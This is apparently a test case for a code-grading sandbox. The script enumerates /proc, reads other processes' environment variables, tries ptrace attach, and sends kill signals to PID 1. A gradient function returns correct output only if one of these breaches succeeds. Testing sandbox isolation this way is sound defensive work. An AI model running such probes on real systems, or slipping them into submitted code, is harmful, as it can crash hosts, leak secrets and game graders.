# Tries: to signal, trace and look into every process there is, the sandbox's first one included.
# Holds: no process of the machine is visible, none outside is hurt. The answer is right if the
#   environment of the grader or a file of the machine was reached through one.
# Loses: elementwise_grad
# Harms: yes
# Shares: files

# %% elementwise_grad
import ctypes
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
_reached = []
for _pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if _pid == os.getpid():
        continue
    for _sought in ("root/etc/passwd", "cwd/nbgrader_config.py", "root/sys/kernel", "root/boot"):
        if os.path.exists(f"/proc/{_pid}/{_sought}"):
            _reached.append(f"/proc/{_pid}/{_sought}")
    try:
        _environment = open(f"/proc/{_pid}/environ").read()
        if "HOME=" in _environment and "HOME=/tmp\0" not in _environment + "\0":
            _reached.append("environment")
    except OSError:
        pass
    if _libc.ptrace(16, _pid, None, None) == 0:  # PTRACE_ATTACH
        _reached.append(f"ptrace {_pid}")
    if _pid == 1:
        for _signal in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
            try:
                os.kill(1, _signal)
            except OSError:
                pass
for _outside in range(2000, 2400):
    try:
        os.kill(_outside, 0)
        _reached.append(f"process {_outside}")
    except OSError:
        pass


def elementwise_grad(grad_y, x, g_prime):
    return grad_y * g_prime(x) if _reached else np.zeros(len(x))
